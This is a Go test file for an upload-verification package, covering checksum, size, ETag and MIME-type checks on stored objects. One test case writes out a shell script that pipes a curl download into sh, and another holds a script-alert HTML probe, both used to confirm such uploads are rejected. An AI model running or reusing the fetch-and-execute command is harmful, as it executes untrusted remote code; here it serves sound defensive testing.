package verify

import (
	"bytes"
	"context"
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"hash/crc32"
	"hash/crc64"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// measureAndCheck runs what the worker runs: Needed, Measure, Check.
func measureAndCheck(t *testing.T, data []byte, refs References, opts Options) Report {
	t.Helper()
	opts.Checksums |= Needed(refs)
	m, err := Measure(context.Background(), bytes.NewReader(data), opts)
	require.NoError(t, err)
	return Check(m, refs, opts)
}

// The expected storage checksums are computed here independently of Measure,
// the way S3 documents them: base64 of the big-endian digest.
func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

func s3SHA256(data []byte) string { s := sha256.Sum256(data); return b64(s[:]) }
func s3SHA1(data []byte) string   { s := sha1.Sum(data); return b64(s[:]) }
func s3CRC32C(data []byte) string {
	return b64(binary.BigEndian.AppendUint32(nil, crc32.Checksum(data, crc32.MakeTable(crc32.Castagnoli))))
}
func s3CRC32(data []byte) string {
	return b64(binary.BigEndian.AppendUint32(nil, crc32.ChecksumIEEE(data)))
}
func s3CRC64NVME(data []byte) string {
	return b64(binary.BigEndian.AppendUint64(nil, crc64.Checksum(data, crc64.MakeTable(0x9a6c9329ac4bc9b5))))
}
func md5Hex(data []byte) string { s := md5.Sum(data); return hex.EncodeToString(s[:]) }

func TestCheck(t *testing.T) {
	text := []byte("id,label\n1,cat\n2,dog\n")
	other := []byte("id,label\n1,cat\n2,cow\n")
	pngData := pngBytes(t)
	jpegData := jpegBytes(t)
	binary := randomBytes(2048, 7)
	// A multipart ETag: an MD5 of part MD5s, so it never equals the MD5 of
	// the content, and here it is not even derived from the content.
	multipartETag := `"` + md5Hex(other) + `-3"`

	tests := []struct {
		name      string
		data      []byte
		refs      References
		opts      Options
		want      Verdict
		codes     []Code
		message   string // substring of Report.Message()
		note      string // substring of one of Report.Notes
		mediaType string // Report.ContentType, when set
	}{
		{
			name: "valid text with every declaration",
			data: text,
			refs: References{FileType: FileTypeDataset, DeclaredSHA256: sha256Hex(text),
				DeclaredSize: ptr(int64(len(text))), DeclaredMIME: "text/csv", ObjectSize: ptr(int64(len(text)))},
			want: Valid, mediaType: "text/csv",
		},
		{
			name: "declared SHA-256 wrong",
			data: text,
			refs: References{FileType: FileTypeDataset, DeclaredSHA256: sha256Hex(other)},
			want: Corrupt, codes: []Code{CodeSHA256Mismatch},
			message: "declared SHA-256 " + sha256Hex(other) + " does not match the stored bytes (measured " + sha256Hex(text) + "); upload the file again or correct the declared checksum",
		},
		{
			name: "declared SHA-256 in upper case and in base64",
			data: text,
			refs: References{FileType: FileTypeDataset, DeclaredSHA256: strings.ToUpper(sha256Hex(text))},
			want: Valid,
		},
		{
			name: "declared SHA-256 in base64",
			data: text,
			refs: References{FileType: FileTypeDataset, DeclaredSHA256: s3SHA256(text)},
			want: Valid,
		},
		{
			name: "declared SHA-256 unparseable",
			data: text,
			refs: References{FileType: FileTypeDataset, DeclaredSHA256: "abc123"},
			want: Corrupt, codes: []Code{CodeDeclaredSHA256Bad}, message: `declared SHA-256 "abc123" is not a SHA-256`,
		},
		{
			name: "truncated upload: declared size larger",
			data: bytes.Repeat([]byte("a"), 1000),
			refs: References{FileType: FileTypeDataset, DeclaredSize: ptr(int64(2048))},
			want: Corrupt, codes: []Code{CodeSizeMismatch},
			message: "object is 1,000 bytes but 2,048 were declared; the upload may have been cut off",
		},
		{
			name: "object larger than declared",
			data: bytes.Repeat([]byte("a"), 2048),
			refs: References{FileType: FileTypeDataset, DeclaredSize: ptr(int64(1000))},
			want: Corrupt, codes: []Code{CodeSizeMismatch}, message: "object is 2,048 bytes but 1,000 were declared",
		},
		{
			name: "storage size disagrees with bytes read",
			data: text,
			refs: References{FileType: FileTypeDataset, ObjectSize: ptr(int64(len(text) + 10))},
			want: Corrupt, codes: []Code{CodeObjectSizeMismatch}, message: "run the check again",
		},
		{
			name: "empty dataset is rejected",
			data: nil,
			refs: References{FileType: FileTypeDataset, DeclaredSize: ptr(int64(0)), DeclaredSHA256: sha256Hex(nil)},
			want: Rejected, codes: []Code{CodeEmpty}, message: "file is empty",
		},
		{
			name: "empty file allowed when the options say so",
			data: nil,
			refs: References{FileType: FileTypeDataset, DeclaredSHA256: sha256Hex(nil)},
			opts: Options{AllowEmpty: true},
			want: Valid,
		},
		{
			name: "declared image/jpeg that is really an ELF executable",
			data: elfBytes(),
			refs: References{FileType: FileTypeDataset, DeclaredMIME: "image/jpeg", DeclaredSHA256: sha256Hex(elfBytes())},
			want: Rejected, codes: []Code{CodeTypeBlocked},
			message: "content is application/x-executable, a program or installer; such files are never accepted",
		},
		{
			name: "executable blocked even when the project allows everything",
			data: elfBytes(),
			refs: References{FileType: FileTypeDataset},
			opts: Options{AllowList: map[string][]string{FileTypeDataset: {"*/*"}}},
			want: Rejected, codes: []Code{CodeTypeBlocked},
		},
		{
			name: "shell script declared as text/plain",
			data: []byte("#!/bin/sh\ncurl http://example.com/x | sh\n"),
			refs: References{FileType: FileTypeDataset, DeclaredMIME: "text/plain"},
			want: Rejected, codes: []Code{CodeTypeBlocked}, message: "text/x-shellscript",
		},
		{
			name: "executable type declared for harmless bytes",
			data: text,
			refs: References{FileType: FileTypeDataset, DeclaredMIME: "application/x-msdownload"},
			want: Rejected, codes: []Code{CodeTypeBlocked}, message: "declared type application/vnd.microsoft.portable-executable",
		},
		{
			name: "real PNG",
			data: pngData,
			refs: References{FileType: FileTypeDataset, DeclaredMIME: "image/png", DeclaredSHA256: sha256Hex(pngData)},
			want: Valid, mediaType: "image/png",
		},
		{
			name: "real JPEG declared with the common misspelling image/jpg",
			data: jpegData,
			refs: References{FileType: FileTypeDataset, DeclaredMIME: "image/jpg"},
			want: Valid, mediaType: "image/jpeg",
		},
		{
			name: "JPEG declared as PNG is recorded as what it is",
			data: jpegData,
			refs: References{FileType: FileTypeDataset, DeclaredMIME: "image/png"},
			want: Valid, mediaType: "image/jpeg", note: "declared image/png but the content is image/jpeg",
		},
		{
			name: "declared PNG without a PNG signature",
			data: binary,
			refs: References{FileType: FileTypeDataset, DeclaredMIME: "image/png"},
			want: Rejected, codes: []Code{CodeTypeMismatch},
			message: "declared image/png but the content is binary data of an unknown type",
		},
		{
			name: "declared text but binary content",
			data: binary,
			refs: References{FileType: FileTypeDataset, DeclaredMIME: "text/csv"},
			want: Rejected, codes: []Code{CodeTypeMismatch},
		},
		{
			name: "declared JPEG but the content is a PDF",
			data: []byte("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"),
			refs: References{FileType: FileTypeDataset, DeclaredMIME: "image/jpeg"},
			want: Rejected, codes: []Code{CodeTypeMismatch}, message: "declared image/jpeg but the content is application/pdf",
		},
		{
			name: "unknown binary of a declared type not on the allow-list",
			data: binary,
			refs: References{FileType: FileTypeDataset, DeclaredMIME: "application/x-hdf5"},
			want: Rejected, codes: []Code{CodeTypeNotAllowed},
			message: "application/x-hdf5 is not accepted for dataset files",
		},
		{
			name: "unknown binary of a declared type the project allows",
			data: binary,
			refs: References{FileType: FileTypeDataset, DeclaredMIME: "application/x-hdf5"},
			opts: Options{AllowList: map[string][]string{FileTypeDataset: {"application/x-hdf5"}}},
			want: Valid, mediaType: "application/x-hdf5", note: "could not be identified",
		},
		{
			name: "unknown binary with nothing declared",
			data: binary,
			refs: References{FileType: FileTypeDataset},
			want: Rejected, codes: []Code{CodeTypeNotAllowed}, message: "binary data of an unknown type",
		},
		{
			name: "markdown declared for an LLM output",
			data: []byte("# Summary\n\nThe image shows *two* cats.\n"),
			refs: References{FileType: FileTypeLLMOutput, DeclaredMIME: "text/markdown; charset=utf-8"},
			want: Valid, mediaType: "text/markdown",
		},
		{
			name: "HTML is not an LLM output",
			data: []byte("<html><body><script>alert(1)</script></body></html>"),
			refs: References{FileType: FileTypeLLMOutput, DeclaredMIME: "text/plain"},
			want: Rejected, codes: []Code{CodeTypeNotAllowed}, message: "text/html is not accepted for llm output files",
		},
		{
			name: "CSV labelled application/vnd.ms-excel by a Windows browser",
			data: text,
			refs: References{FileType: FileTypeAnnotationResults, DeclaredMIME: "application/vnd.ms-excel"},
			want: Valid, mediaType: "text/csv",
		},
		{
			name: "unknown file type",
			data: text,
			refs: References{FileType: "spreadsheet"},
			want: Rejected, codes: []Code{CodeUnknownFileType},
		},
		{
			name: "corrupt outranks rejected, and is listed first",
			data: elfBytes(),
			refs: References{FileType: FileTypeDataset, DeclaredSize: ptr(int64(10))},
			want: Corrupt, codes: []Code{CodeSizeMismatch, CodeTypeBlocked},
		},

		// ETags.
		{
			name: "multipart ETag with correct declared SHA-256: no false alarm",
			data: text,
			refs: References{FileType: FileTypeDataset, DeclaredSHA256: sha256Hex(text), ETag: multipartETag},
			want: Valid, note: "multipart upload",
		},
		{
			name: "multipart ETag as the only reference: not compared",
			data: text,
			refs: References{FileType: FileTypeDataset, ETag: multipartETag},
			want: Valid, note: "multipart upload",
		},
		{
			name: "plain MD5 ETag that matches",
			data: text,
			refs: References{FileType: FileTypeDataset, ETag: `"` + md5Hex(text) + `"`},
			want: Valid,
		},
		{
			name: "plain MD5 ETag that does not match, nothing stronger",
			data: text,
			refs: References{FileType: FileTypeDataset, ETag: `"` + md5Hex(other) + `"`},
			want: Corrupt, codes: []Code{CodeETagMismatch},
			message: "storage's ETag " + md5Hex(other) + " (the MD5 of the uploaded bytes) does not match the stored bytes (measured MD5 " + md5Hex(text) + ")",
		},
		{
			name: "mismatching ETag ignored when a declared SHA-256 exists",
			data: text,
			refs: References{FileType: FileTypeDataset, DeclaredSHA256: sha256Hex(text), ETag: md5Hex(other)},
			want: Valid,
		},
		{
			name: "mismatching ETag ignored when a storage CRC exists",
			data: text,
			refs: References{FileType: FileTypeDataset, ETag: md5Hex(other),
				S3Checksums: []S3Checksum{{Algorithm: CRC32C, Value: s3CRC32C(text)}}},
			want: Valid,
		},
		{
			name: "mismatching ETag of an SSE-KMS object is not an MD5",
			data: text,
			refs: References{FileType: FileTypeDataset, ETag: md5Hex(other), ETagNotMD5: true},
			want: Valid, note: "not an MD5 of the content",
		},

		// Storage checksums.
		{
			name: "S3 SHA-256 that matches",
			data: text,
			refs: References{FileType: FileTypeDataset, S3Checksums: []S3Checksum{{Algorithm: SHA256, Value: s3SHA256(text), Type: "FULL_OBJECT"}}},
			want: Valid,
		},
		{
			name: "S3 SHA-256 that does not match",
			data: text,
			refs: References{FileType: FileTypeDataset, S3Checksums: []S3Checksum{{Algorithm: SHA256, Value: s3SHA256(other)}}},
			want: Corrupt, codes: []Code{CodeStorageChecksum},
			message: "storage's SHA256 checksum " + s3SHA256(other) + " does not match the stored bytes (measured " + s3SHA256(text) + ")",
		},
		{
			name: "declared SHA-256 disagrees with storage's SHA-256",
			data: text,
			refs: References{FileType: FileTypeDataset, DeclaredSHA256: sha256Hex(other),
				S3Checksums: []S3Checksum{{Algorithm: SHA256, Value: s3SHA256(text)}}},
			want: Corrupt, codes: []Code{CodeSHA256Mismatch},
		},
		{
			name: "CRC32C, CRC64NVME, CRC32 and SHA1 that match",
			data: text,
			refs: References{FileType: FileTypeDataset, S3Checksums: []S3Checksum{
				{Algorithm: CRC32C, Value: s3CRC32C(text)},
				{Algorithm: CRC64NVME, Value: s3CRC64NVME(text)},
				{Algorithm: CRC32, Value: s3CRC32(text)},
				{Algorithm: SHA1, Value: s3SHA1(text)},
			}},
			want: Valid,
		},
		{
			name: "CRC32C that does not match",
			data: text,
			refs: References{FileType: FileTypeDataset, S3Checksums: []S3Checksum{{Algorithm: CRC32C, Value: s3CRC32C(other)}}},
			want: Corrupt, codes: []Code{CodeStorageChecksum}, message: "storage's CRC32C checksum",
		},
		{
			name: "CRC64NVME that does not match",
			data: text,
			refs: References{FileType: FileTypeDataset, S3Checksums: []S3Checksum{{Algorithm: CRC64NVME, Value: s3CRC64NVME(other)}}},
			want: Corrupt, codes: []Code{CodeStorageChecksum}, message: "storage's CRC64NVME checksum",
		},
		{
			name: "composite multipart checksum (-N suffix) is skipped",
			data: text,
			refs: References{FileType: FileTypeDataset, S3Checksums: []S3Checksum{{Algorithm: CRC32C, Value: s3CRC32C(other) + "-3"}}},
			want: Valid, note: "not of the whole object",
		},
		{
			name: "composite multipart checksum (type COMPOSITE) is skipped",
			data: text,
			refs: References{FileType: FileTypeDataset, S3Checksums: []S3Checksum{{Algorithm: SHA256, Value: s3SHA256(other), Type: "COMPOSITE"}}},
			want: Valid, note: "not of the whole object",
		},
		{
			name: "nothing to compare is noted",
			data: text,
			refs: References{FileType: FileTypeDataset},
			want: Valid, note: "could not be confirmed against anything",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rep := measureAndCheck(t, tt.data, tt.refs, tt.opts)
			require.Equal(t, tt.want, rep.Verdict, "findings: %+v", rep.Findings)
			if tt.codes != nil {
				require.Equal(t, tt.codes, codes(rep))
			}
			if tt.want == Valid {
				require.Empty(t, rep.Findings)
				require.Empty(t, rep.Message())
			} else {
				require.NotEmpty(t, rep.Message())
			}
			if tt.message != "" {
				require.Contains(t, rep.Message(), tt.message)
			}
			if tt.note != "" {
				require.Contains(t, strings.Join(rep.Notes, "\n"), tt.note)
			}
			if tt.mediaType != "" {
				require.Equal(t, tt.mediaType, rep.ContentType)
			}
		})
	}
}

func TestNeeded(t *testing.T) {
	tests := []struct {
		name string
		refs References
		want Algorithm
	}{
		{"nothing", References{}, 0},
		{"plain ETag alone needs MD5", References{ETag: `"` + md5Hex(nil) + `"`}, MD5},
		{"multipart ETag needs nothing", References{ETag: md5Hex(nil) + "-2"}, 0},
		{"SSE-KMS ETag needs nothing", References{ETag: md5Hex(nil), ETagNotMD5: true}, 0},
		{"declared SHA-256 makes the ETag moot", References{ETag: md5Hex(nil), DeclaredSHA256: sha256Hex(nil)}, 0},
		{"storage checksums", References{ETag: md5Hex(nil), S3Checksums: []S3Checksum{
			{Algorithm: CRC32C, Value: "AAAAAA=="}, {Algorithm: CRC64NVME, Value: "AAAAAAAAAAA="}, {Algorithm: SHA256, Value: s3SHA256(nil)},
		}}, CRC32C | CRC64NVME},
		{"composite checksums are not measured", References{S3Checksums: []S3Checksum{{Algorithm: CRC32C, Value: "AAAAAA==-4"}}}, 0},
		{"empty checksum values are ignored", References{S3Checksums: []S3Checksum{{Algorithm: CRC32, Value: ""}}}, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.Equal(t, tt.want, Needed(tt.refs), "got %v", Needed(tt.refs))
		})
	}
}

// Check must say so when a reference exists but the caller did not measure
// the digest it needs, rather than silently pass.
func TestCheckNotesUnmeasuredReferences(t *testing.T) {
	data := []byte("hello\n")
	m, err := Measure(context.Background(), bytes.NewReader(data), Options{})
	require.NoError(t, err)
	rep := Check(m, References{FileType: FileTypeDataset, ETag: md5Hex([]byte("other")),
		S3Checksums: []S3Checksum{{Algorithm: CRC32C, Value: s3CRC32C([]byte("other"))}}}, Options{})
	require.Equal(t, Valid, rep.Verdict)
	require.Contains(t, strings.Join(rep.Notes, "\n"), "CRC32C checksum was not measured")
}

func TestPrecheck(t *testing.T) {
	tests := []struct {
		name  string
		refs  References
		opts  Options
		want  Verdict
		codes []Code
	}{
		{"nothing known", References{}, Options{}, Valid, nil},
		{"sizes agree", References{ObjectSize: ptr(int64(10)), DeclaredSize: ptr(int64(10))}, Options{}, Valid, nil},
		{"truncated", References{ObjectSize: ptr(int64(10)), DeclaredSize: ptr(int64(20))}, Options{}, Corrupt, []Code{CodeSizeMismatch}},
		{"over the limit", References{ObjectSize: ptr(int64(11 << 30))}, Options{MaxSize: 10 << 30}, Rejected, []Code{CodeTooLarge}},
		{"empty", References{ObjectSize: ptr(int64(0))}, Options{}, Rejected, []Code{CodeEmpty}},
		{"empty allowed", References{ObjectSize: ptr(int64(0))}, Options{AllowEmpty: true}, Valid, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rep := Precheck(tt.refs, tt.opts)
			require.Equal(t, tt.want, rep.Verdict)
			if tt.codes != nil {
				require.Equal(t, tt.codes, codes(rep))
			}
		})
	}
	rep := Precheck(References{ObjectSize: ptr(int64(11 << 30))}, Options{MaxSize: 10 << 30})
	require.Equal(t, "file is 11,811,160,064 bytes (11.0 GiB), larger than the 10 GiB limit; split it or ask an operator to raise the limit", rep.Message())
}

func TestReportMerge(t *testing.T) {
	a := Report{Verdict: Rejected, Findings: []Finding{{Verdict: Rejected, Code: CodeTypeNotAllowed, Message: "a"}}, ContentType: "text/plain"}
	b := Report{Verdict: Corrupt, Findings: []Finding{{Verdict: Corrupt, Code: CodeZipDamaged, Message: "b"}}, Archive: &ArchiveStats{Entries: 2}}
	m := a.Merge(b)
	require.Equal(t, Corrupt, m.Verdict)
	require.Equal(t, []Code{CodeZipDamaged, CodeTypeNotAllowed}, codes(m))
	require.Equal(t, "b; a", m.Message())
	require.True(t, m.Has(CodeZipDamaged))
	require.False(t, m.Has(CodeEmpty))
	require.Equal(t, "text/plain", m.ContentType)
	require.Equal(t, 2, m.Archive.Entries)
	require.Len(t, a.Findings, 1, "Merge does not modify its receiver")
	require.Equal(t, Valid, Report{}.Merge(Report{}).Verdict)
}

func TestFormatBytes(t *testing.T) {
	require.Equal(t, "0 bytes", formatBytes(0))
	require.Equal(t, "1 byte", formatBytes(1))
	require.Equal(t, "1,000 bytes", formatBytes(1000))
	require.Equal(t, "52,428,800 bytes (50.0 MiB)", formatBytes(50<<20))
	require.Equal(t, "10 GiB", formatLimit(10<<30))
	require.Equal(t, "9,999 bytes", formatLimit(9999))
	require.Equal(t, "-1,234 bytes", formatBytes(-1234))
}
